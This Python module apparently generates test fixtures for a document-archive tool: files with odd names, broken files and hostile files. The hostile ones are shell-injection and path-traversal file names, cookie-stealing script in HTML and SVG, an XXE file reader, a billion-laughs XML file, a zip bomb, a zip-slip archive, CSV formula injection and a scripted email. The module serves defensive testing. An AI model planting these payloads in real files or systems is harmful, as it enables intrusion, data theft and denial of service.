"""The awkward part of the drive: odd names, broken and hostile files. None harms at rest."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from email.message import EmailMessage
from email.policy import SMTP

from muniment.demo.sample_drive import formats
from muniment.demo.sample_drive.formats import mail, pdf, still
from muniment.demo.sample_drive.types import Page

INBOX = "Shared/From other systems"
PASSWORD = "sallow2017"  # noqa: S105
BOMB_BYTES = 48 * 1024 * 1024
LINK = (f"{INBOX}/shortcut to another drive", "/etc/hostname")

ODD_NAMES = {
    "Departments/Communications/Cymraeg/Gŵyl y tŷ – cofnodion.docx": "Welsh letters",
    f"{INBOX}/Summer fair 🎪🌞 poster.txt": "emoji",
    f"{INBOX}/He said \"leave it\" & 'don't'.txt": "quotes",
    f"{INBOX}/-rf important.txt": "leading dash",
    f"{INBOX}/{'Minutes of the working group on minutes of the ' * 4}{'x' * 48}.txt": "very long",
    f"{INBOX}/trailing space.txt ": "trailing space",
    f"{INBOX}/תקציב דיור.txt": "right to left",
    f"{INBOX}/invoice \u202etxt.exe.txt": "direction override",
    f"{INBOX}/caf\udce9 menu.txt": "not UTF-8",
    f"{INBOX}/..%2f..%2fetc%2fpasswd.txt": "encoded path",
    f"{INBOX}/..\\..\\windows\\old.txt": "backslashes",
    f"{INBOX}/two\nlines.txt": "line break",
    f"{INBOX}/Re\u0301sume\u0301 tips.txt": "decomposed accents",
    f"{INBOX}/$(touch pwned)`id`.txt": "shell letters",
    f"{INBOX}/=HYPERLINK(1).txt": "formula",
    f"{INBOX}/<img src=x onerror=alert(1)>.txt": "markup",
    f"{INBOX}/CON.txt": "reserved on Windows",
    f"{INBOX}/README": "no extension",
    f"{INBOX}/.hidden notes.txt": "hidden",
    f"{INBOX}/{'/'.join(f'New Folder ({n})' for n in range(1, 15))}/deep note.txt": "deep folders",
}


@dataclass(frozen=True, slots=True)
class Odd:
    """An awkward file: `note` begins with odd, broken or hostile; `kind` is what it really is."""

    path: str
    kind: str
    note: str
    data: bytes


def awkward(page: Callable[[str, str, date], Page]) -> Iterator[tuple[Odd, date]]:
    """Every awkward file with its day. `page(topic, path, day)` gives the words."""
    for number, (path, why) in enumerate(ODD_NAMES.items()):
        day = date(2006 + number, 1 + number % 12, 17)
        kind = "docx" if path.endswith("docx") else "txt"
        data = formats.WRITERS[kind](page("team", path, day))
        yield Odd(path, kind, f"odd name: {why}", data), day
    for number, made in enumerate((*_broken(page), *_hostile())):
        yield made, date(2009 + number % 17, 1 + number % 12, 9)


def _broken(page: Callable[[str, str, date], Page]) -> Iterator[Odd]:
    day = date(2017, 6, 1)
    letter = page("repair", f"{INBOX}/letter", day)
    word, sheet = formats.WRITERS["docx"](letter), pdf.write(letter)
    picture = formats.WRITERS["png"](page("crest", f"{INBOX}/crest", day))
    yield Odd(f"{INBOX}/Corrupt letter.docx", "docx", "broken: corrupt", _scrambled(word))
    yield Odd(f"{INBOX}/Half sent.pdf", "pdf", "broken: truncated", sheet[: len(sheet) // 2])
    locked = pdf.write_encrypted(page("casework", f"{INBOX}/locked", day), PASSWORD)
    yield Odd(f"{INBOX}/Locked report.pdf", "pdf", "broken: encrypted", locked)
    yield Odd(f"{INBOX}/Empty.docx", "empty", "broken: zero bytes", b"")
    yield Odd(f"{INBOX}/Really a picture.doc", "png", "broken: wrong extension", picture)
    yield Odd(f"{INBOX}/Really a PDF.docx", "pdf", "broken: wrong extension", sheet)
    yield Odd(f"{INBOX}/~$port to cabinet.docx", "lock", "odd: lock file", _lock_file())
    yield Odd(f"{INBOX}/Thumbs.db", "thumbs", "odd: system file", _thumbs())
    yield Odd(
        f"{INBOX}/desktop.ini", "ini", "odd: system file", b"[.ShellClassInfo]\r\nIconIndex=3\r\n"
    )
    yield Odd(f"{INBOX}/FW nested.eml", "eml", "odd: message in a message", _nested(letter))
    yield Odd(f"{INBOX}/broken headers.eml", "eml", "broken: mail", _broken_mail())


def _scrambled(data: bytes) -> bytes:
    """The package with its middle overwritten and its directory cut off."""
    third = len(data) // 3
    return data[:third] + b"\xde\xad" * 200 + data[third + 400 : 2 * third]


def _lock_file() -> bytes:
    owner = "G. Davies"
    return (bytes([len(owner)]) + owner.encode()).ljust(55, b" ") + owner.encode("utf-16-le").ljust(
        107
    )


def _thumbs() -> bytes:
    """An empty compound file ([MS-CFB] 2.2 to 2.6): a header, its FAT and its directory."""
    free, end, fat = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16)
    head += struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0)
    head += struct.pack("<109I", 0, *[free] * 108)
    table = struct.pack("<128I", fat, end, *[free] * 126)
    name = "Root Entry".encode("utf-16-le")
    root = name.ljust(64, b"\0") + struct.pack("<HBB3I", len(name) + 2, 5, 1, free, free, free)
    root += bytes(36) + struct.pack("<IQ", end, 0)
    empty = bytes(68) + struct.pack("<3I", free, free, free) + bytes(48)
    return head + table + root + empty * 3


def _nested(letter: Page) -> bytes:
    inner = mail.thread(letter)[1]
    outer = mail.message(letter, letter.reader, "Pat Storekeeper", "FW: damp", "Please see below.")
    outer.add_attachment(inner)
    mail.finished(inner)
    return mail.finished(outer)


def _broken_mail() -> bytes:
    return (
        b"From: =?utf-9?Q?nobody?= <>\r\nSubject: =?x-unknown?B?!!!?=\r\nDate: yesterday\r\n"
        b'Content-Type: multipart/mixed; boundary="never used"\r\n\r\n'
        b"The gate at the allotments is off its hinges again.\r\n\xff\xfe\r\n"
    )


def _hostile() -> Iterator[Odd]:
    for name, note, text in HOSTILE_TEXTS:
        yield Odd(f"{INBOX}/{name}", name.rpartition(".")[2], f"hostile: {note}", text.encode())
    yield Odd(f"{INBOX}/bomb.zip", "zip", "hostile: expands", _bomb())
    yield Odd(f"{INBOX}/slip.zip", "zip", "hostile: paths in zip", _slip())
    yield Odd(f"{INBOX}/prize.eml", "eml", "hostile: script in mail", _script_mail())


def _bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        info = zipfile.ZipInfo("zeros.txt", (2016, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with package.open(info, "w") as inside:
            for _ in range(BOMB_BYTES // (1024 * 1024)):
                inside.write(bytes(1024 * 1024))
    return out.getvalue()


def _slip() -> bytes:
    entries = [("../../../outside.txt", b"slipped\n"), ("/etc/outside.txt", b"slipped\n")]
    return still.pack(entries, date(2016, 1, 1))


def _script_mail() -> bytes:
    made = EmailMessage(policy=SMTP)
    made["From"] = "Prize desk <prize@lottery.invalid>"
    made["To"] = "Press office <press@westmarch.example>"
    made["Subject"] = "You have won <script>alert('subject')</script>"
    made["Date"] = "Mon, 04 Jan 2016 10:15:00 +0000"
    made["Message-ID"] = "<prize@lottery.invalid>"
    made.set_content("You have won a cruise on the Sallow.")
    made.add_alternative(
        "<p onload=alert(1)>A cruise!</p><script>document.location='http://127.0.0.1:9/'</script>"
        "<img src='http://127.0.0.1:9/pixel.gif'>",
        subtype="html",
    )
    return mail.finished(made)


HOSTILE_TEXTS = (
    (
        "survey.html",
        "script",
        "<!doctype html><title>Parking survey</title><p>Tell us about parking.</p>"
        "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
        "<iframe src='file:///etc/hostname'></iframe><img src=x onerror='alert(1)'>\n",
    ),
    (
        "map.svg",
        "script",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>Ward map</title>'
        '<script>alert("svg")</script><image href="http://127.0.0.1:9/x.png"/></svg>\n',
    ),
    (
        "supplier feed.xml",
        "external entity",
        '<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY leak SYSTEM "file:///etc/hostname">\n'
        '<!ENTITY % call SYSTEM "http://127.0.0.1:9/call.dtd">]>\n'
        "<feed><supplier>Heron Lifts</supplier><note>&leak;</note></feed>\n",
    ),
    (
        "laughs.xml",
        "entities that multiply",
        '<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY a "ha">'
        + "".join(
            f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + "]>\n<l>&i;</l>\n",
    ),
    (
        "grant applicants.csv",
        "formulas",
        'Name,Amount,Note\r\n=HYPERLINK("http://127.0.0.1:9/"&A2),£400,bowls club\r\n'
        "+1+cmd|' /C calc'!A0,-2+3,scouts\r\n@SUM(1+1),\"\t=1+1\",brass band\r\n",
    ),
)
